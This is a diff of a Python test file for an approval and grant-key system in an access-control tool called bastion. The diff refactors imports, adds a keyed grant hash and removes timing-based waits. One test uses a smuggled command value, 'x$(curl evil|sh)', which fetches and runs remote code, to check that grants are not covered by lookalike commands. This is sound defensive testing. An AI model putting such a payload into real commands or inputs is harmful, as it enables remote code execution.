@@ -7,7 +7,6 @@ import getpass
 import json
 import subprocess
 import sys
-import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -19,13 +18,18 @@ from click.testing import CliRunner
 from bastion import config as config_mod
 from bastion.cli.main import main
 from bastion.cli.policy import approvals as approvals_cli
-from bastion.control.approvals import ApprovalError, ApprovalRequest, Approvals, ApprovalSettings
+from bastion.control.actions import Decision, Exec, Forward, McpTool, ShellLine, Subject, action_key
+from bastion.control.approval_queue import Approvals
+from bastion.control.approvals import ApprovalError, ApprovalRequest
 from bastion.control.approver_commands import approvals_command
-from bastion.control.policy import Decision, Exec, Forward, McpTool, Policy, Rule, ShellLine, Subject, action_key
-from bastion.storage.store import Store
+from bastion.control.config import ApprovalSettings, Rule
+from bastion.control.grant_key import GrantKey
+from bastion.control.policy import Policy
+from bastion.storage import SqliteStore as Store
 
 ALICE = Subject("alice", ("ops",), "prod1", {"env": "prod"}, "mcp")
 RESTART = Exec("systemctl restart mcp")
+KEY = GrantKey(b"k" * 32)  # what `bastion serve` loads from state/grant.key
 
 
 class Clock:
@@ -52,7 +56,7 @@ def clock() -> Clock:
 
 @pytest.fixture
 def queue(store: Store, clock: Clock) -> Iterator[Approvals]:
-    approvals = Approvals(store, ApprovalSettings(timeout="10m", approver_groups=("sre",)), clock=clock)
+    approvals = Approvals(store, ApprovalSettings(timeout="10m", approver_groups=("sre",)), clock=clock, grant_key=KEY)
     yield approvals
     approvals.close()
 
@@ -212,24 +216,24 @@ def test_every_change_is_in_the_audit_log(queue: Approvals, store: Store, clock:
 
 def test_a_grant_window_lets_the_same_action_pass(queue: Approvals, clock: Clock) -> None:
     created = request(queue, grant=900.0)
-    assert not queue.granted(ALICE, RESTART)
+    assert not queue.granted(ALICE, queue.key_of(RESTART))
     queue.decide("bob", ("leads",), created.id, True)
-    assert queue.granted(ALICE, RESTART)
-    assert queue.granted(ALICE, ShellLine("systemctl restart mcp"))  # the same command typed in a shell
-    assert not queue.granted(ALICE, Exec("systemctl restart db"))
-    assert not queue.granted(Subject("mallory", ("ops",), "prod1", {}, "mcp"), RESTART)
-    assert not queue.granted(Subject("alice", ("ops",), "prod2", {}, "mcp"), RESTART)
-    assert not queue.granted(Subject("alice", ("ops",), "prod1", {}, "root"), RESTART)
+    assert queue.granted(ALICE, queue.key_of(RESTART))
+    assert queue.granted(ALICE, queue.key_of(ShellLine("systemctl restart mcp")))  # the same command typed in a shell
+    assert not queue.granted(ALICE, queue.key_of(Exec("systemctl restart db")))
+    assert not queue.granted(Subject("mallory", ("ops",), "prod1", {}, "mcp"), queue.key_of(RESTART))
+    assert not queue.granted(Subject("alice", ("ops",), "prod2", {}, "mcp"), queue.key_of(RESTART))
+    assert not queue.granted(Subject("alice", ("ops",), "prod1", {}, "root"), queue.key_of(RESTART))
     clock.now += 899
-    assert queue.granted(ALICE, RESTART)
+    assert queue.granted(ALICE, queue.key_of(RESTART))
     clock.now += 1
-    assert not queue.granted(ALICE, RESTART)
+    assert not queue.granted(ALICE, queue.key_of(RESTART))
 
 
 def test_without_a_grant_an_approval_covers_one_action(queue: Approvals) -> None:
     created = request(queue)
     queue.decide("bob", ("leads",), created.id, True)
-    assert not queue.granted(ALICE, RESTART)
+    assert not queue.granted(ALICE, queue.key_of(RESTART))
 
 
 def test_a_policy_decision_becomes_a_request() -> None:
@@ -251,80 +255,89 @@ def test_only_approve_decisions_are_held(queue: Approvals) -> None:
 
 
 # Waiting.
-async def timed_wait(queue: Approvals, request_id: int) -> tuple[ApprovalRequest, float]:
-    outcome = await queue.wait(request_id)
-    return outcome, time.time()
-
-
-def test_wait_wakes_at_once_on_a_decision_in_this_process(store: Store) -> None:
-    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)))
+def test_wait_wakes_at_once_on_a_decision_in_this_process(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A decision taken in this process wakes the waiter itself: with polling made hourly, only that can wake it."""
+    monkeypatch.setattr("bastion.control.approval_queue.POLL_INTERVAL", 3600.0)
+    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)), grant_key=KEY)
     created = request(queue)
 
-    async def scenario() -> tuple[ApprovalRequest, float, float]:
-        waiting = asyncio.create_task(timed_wait(queue, created.id))
-        await asyncio.sleep(0.3)
+    async def scenario() -> ApprovalRequest:
+        waiting = asyncio.create_task(queue.wait(created.id))
+        await asyncio.sleep(0)  # the waiter reads the pending request and waits
+        assert not waiting.done()
         decided = await asyncio.to_thread(queue.decide, "bob", ("leads",), created.id, True)
         assert decided.approved
-        outcome, woke = await waiting
-        return outcome, woke, time.time()
+        return await asyncio.wait_for(waiting, 30)  # a hang guard: the poll would take an hour
 
-    outcome, woke, after = asyncio.run(scenario())
-    assert outcome.status == "approved" and woke <= after
+    assert asyncio.run(scenario()).status == "approved"
     queue.close()
 
 
-def test_wait_wakes_within_a_second_of_a_decision_in_another_process(store: Store) -> None:
-    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)))
+def test_wait_wakes_on_a_decision_in_another_process(store: Store) -> None:
+    """Another process (the CLI, the TUI) decides: the waiter's poll of the store sees it, while that process
+    still has the database open."""
+    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)), grant_key=KEY)
     created = request(queue)
     script = f"""
-import time
+import sys
 from pathlib import Path
-from bastion.control.approvals import Approvals
-from bastion.storage.store import Store
+from bastion.control.approval_queue import Approvals
+from bastion.storage import SqliteStore as Store
 store = Store(Path({str(store.path)!r}))
 approvals = Approvals(store)
 approvals.decide("bob", ("leads",), {created.id}, False, "not now")
-print(time.time(), flush=True)
-time.sleep(1.5)  # stay up: the waiter must not depend on this process closing the database
+print("decided", flush=True)
+sys.stdin.read()  # stay up until the test is done: the waiter must not depend on this process closing the database
 approvals.close()
 store.close()
 """
 
-    async def scenario() -> tuple[ApprovalRequest, float, float]:
-        waiting = asyncio.create_task(timed_wait(queue, created.id))
+    async def scenario() -> tuple[ApprovalRequest, bytes]:
+        waiting = asyncio.create_task(queue.wait(created.id))
         child = await asyncio.create_subprocess_exec(
-            sys.executable, "-c", script, stdout=subprocess.PIPE, cwd=str(Path(__file__).parent.parent)
+            sys.executable,
+            "-c",
+            script,
+            stdin=subprocess.PIPE,
+            stdout=subprocess.PIPE,
+            cwd=str(Path(__file__).parent.parent),
         )
-        assert child.stdout is not None
-        decided_at = float((await child.stdout.readline()).decode())
-        outcome, woke = await asyncio.wait_for(waiting, 10)
+        assert child.stdin is not None and child.stdout is not None
+        said = await child.stdout.readline()
+        outcome = await asyncio.wait_for(waiting, 30)  # a hang guard
+        child.stdin.close()
         await child.wait()
-        return outcome, woke, decided_at
+        return outcome, said
 
-    outcome, woke, decided_at = asyncio.run(scenario())
+    outcome, said = asyncio.run(scenario())
+    assert said == b"decided\n"
     assert outcome.status == "denied" and outcome.votes[0].reason == "not now"
-    assert woke - decided_at < 1.0, f"woke {woke - decided_at:.2f}s after the decision"
 
 
-def test_wait_returns_expired_when_nobody_decides(store: Store) -> None:
-    queue = Approvals(store, ApprovalSettings(timeout="400ms", approver_groups=("leads",)))
+def test_wait_returns_expired_when_nobody_decides(store: Store, clock: Clock) -> None:
+    queue = Approvals(store, ApprovalSettings(timeout="400ms", approver_groups=("leads",)), clock=clock, grant_key=KEY)
     created = request(queue)
-    started = time.monotonic()
-    outcome = asyncio.run(queue.wait(created.id))
-    assert outcome.status == "expired"
-    assert 0.3 < time.monotonic() - started < 1.5
+
+    async def scenario() -> ApprovalRequest:
+        waiting = asyncio.create_task(queue.wait(created.id))
+        await asyncio.sleep(0)
+        assert not waiting.done() and queue.get(created.id).status == "pending"  # type: ignore[union-attr]
+        clock.now += 0.4  # the request's time is up
+        return await asyncio.wait_for(waiting, 30)  # the next poll expires it
+
+    assert asyncio.run(scenario()).status == "expired"
     store.flush()
     assert [e["fields"]["id"] for e in store.audit_log("approval.expire")] == [created.id]
     queue.close()
 
 
 def test_wait_returns_withdrawn(store: Store) -> None:
-    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)))
+    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)), grant_key=KEY)
     created = request(queue)
 
     async def scenario() -> ApprovalRequest:
         waiting = asyncio.create_task(queue.wait(created.id))
-        await asyncio.sleep(0.1)
+        await asyncio.sleep(0)
         queue.withdraw(created.id)
         return await asyncio.wait_for(waiting, 2)
 
@@ -333,7 +346,7 @@ def test_wait_returns_withdrawn(store: Store) -> None:
 
 
 def test_create_async(store: Store) -> None:
-    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)))
+    queue = Approvals(store, ApprovalSettings(approver_groups=("leads",)), grant_key=KEY)
     created = asyncio.run(queue.create_async(ALICE, RESTART, approve_decision()))
     assert queue.get(created.id) == created
     queue.close()
@@ -411,7 +424,7 @@ def config(tmp_path: Path) -> Path:
 def seed(config: Path, count: int) -> None:
     settings = config_mod.load(config)
     store = Store(settings.server.database_path)
-    queue = Approvals(store, settings.approvals)  # type: ignore[attr-defined]
+    queue = Approvals(store, settings.approvals, grant_key=KEY)  # type: ignore[attr-defined]
     for _ in range(count):
         queue.create(ALICE, RESTART, approve_decision(approvers=()))
     queue.close()
@@ -444,11 +457,11 @@ def test_a_grant_is_keyed_on_the_command_as_typed_not_as_shown(queue: Approvals)
     masked = Exec("deploy --token=[masked:secret]")
     typed, other = Exec("deploy --token=abc"), Exec("deploy --token=x$(curl evil|sh)")
     decision = approve_decision(grant=900.0)
-    first = queue.create(ALICE, masked, decision, key_action=typed)
+    first = queue.create(ALICE, masked, decision, key=queue.key_of(typed))
     queue.decide("bob", ("leads",), first.id, True)
-    assert queue.granted(ALICE, typed)
-    assert not queue.granted(ALICE, other)  # masks the same way, runs something else: not covered
-    assert not queue.granted(ALICE, masked)
+    assert queue.granted(ALICE, queue.key_of(typed))
+    assert not queue.granted(ALICE, queue.key_of(other))  # masks the same way, runs something else: not covered
+    assert not queue.granted(ALICE, queue.key_of(masked))
 
 
 def test_a_requester_who_leaves_while_the_request_is_being_stored_still_withdraws_it(queue: Approvals) -> None:
@@ -458,26 +471,31 @@ def test_a_requester_who_leaves_while_the_request_is_being_stored_still_withdraw
     from bastion.control.gate import Gate
 
     stored = queue.create_async
+    creating: list[asyncio.Task[Any]] = []
+    started, release = asyncio.Event(), asyncio.Event()
 
     async def slow_create(*args: Any, **kwargs: Any) -> ApprovalRequest:
-        await asyncio.sleep(0.2)  # the requester leaves in this window
+        creating.append(asyncio.current_task())  # type: ignore[arg-type]
+        started.set()
+        await release.wait()  # the requester leaves while the request is being stored
         return await stored(*args, **kwargs)
 
     policy = Policy([Rule(name="restart", effect="approve", exec=("systemctl *",), approvers=("leads",))])
     audited: list[str] = []
     ctx = SimpleNamespace(
         policy=policy, masker=None, audit=lambda type_, **fields: audited.append(type_),
-        approvals=SimpleNamespace(granted=queue.granted, create_async=slow_create, wait=queue.wait,
-                                  withdraw=queue.withdraw),
+        approvals=SimpleNamespace(granted=queue.granted, key_of=queue.key_of, create_async=slow_create,
+                                  wait=queue.wait, withdraw=queue.withdraw),
     )  # fmt: skip
 
     async def run() -> None:
         check = asyncio.ensure_future(Gate(ctx, ALICE, "conn-1").check(RESTART, lambda line: None))  # type: ignore[arg-type]
-        await asyncio.sleep(0.05)
+        await started.wait()
         check.cancel()
         with pytest.raises(asyncio.CancelledError):
             await check
-        await asyncio.sleep(0.5)
+        release.set()
+        await creating[0]  # stored; the gate's callback, registered first, has withdrawn it by now
 
     asyncio.run(run())
     queue.store.flush()
@@ -490,28 +508,27 @@ def test_a_grant_key_is_a_keyed_hash_that_guesses_cannot_confirm(store: Store, t
     import hashlib
     import sqlite3
 
-    queue = Approvals(store)
+    grant_key = GrantKey.load(tmp_path)
+    queue = Approvals(store, grant_key=grant_key)
     typed = Exec("mysql -u app -phunter2 -e 'select 1'")
-    created = queue.create(ALICE, Exec("mysql -u app -p[masked] -e 'select 1'"), approve_decision(), key_action=typed)
+    masked = Exec("mysql -u app -p[masked] -e 'select 1'")
+    created = queue.create(ALICE, masked, approve_decision(), key=queue.key_of(typed))
     queue.close()
     key_file = tmp_path / "grant.key"
     assert key_file.stat().st_mode & 0o777 == 0o600 and len(key_file.read_bytes()) == 32
-    time.sleep(0.1)  # the store commits
+    store.flush()
     stored = sqlite3.connect(store.path).execute("SELECT action_key FROM approval_requests WHERE id = ?", (created.id,))
     key = stored.fetchone()[0]
     assert key.startswith("hmac-sha256:") and "hunter2" not in key
     assert hashlib.sha256(action_key(typed).encode()).hexdigest() not in key
     elsewhere = tmp_path / "other"
     elsewhere.mkdir()
-    other_store = Store(elsewhere / "bastion.db")
-    other, again = Approvals(other_store), Approvals(store)
-    assert other._grant_key(typed) != key and again._grant_key(typed) == key
-    other.close(), again.close(), other_store.close()
+    assert GrantKey.load(elsewhere).of(typed) != key and GrantKey.load(tmp_path).of(typed) == key
 
 
 def test_a_grant_key_file_readable_by_others_is_refused_in_one_line(tmp_path: Path) -> None:
     """`bastion serve` makes the key at start; a key others can read stops it with one line, no traceback."""
-    from bastion.control.approvals import load_grant_secret
+    from bastion.control.grant_key import load_grant_secret
 
     config = tmp_path / "bastion.toml"
     config.write_text(f'[server]\nstate_dir = "{tmp_path / "state"}"\nlisten = "127.0.0.1:1"\n')
@@ -527,7 +544,7 @@ def test_a_grant_key_file_readable_by_others_is_refused_in_one_line(tmp_path: Pa
 
 def test_approvers_commands_need_no_grant_key(store: Store, tmp_path: Path) -> None:
     """Approvers may run `bastion approvals` as another Unix user: listing and deciding never read the key."""
-    queue = Approvals(store, grant_secret=b"k" * 32)
+    queue = Approvals(store, grant_key=KEY)
     created = request(queue)
     queue.close()
     approver = Approvals(store)
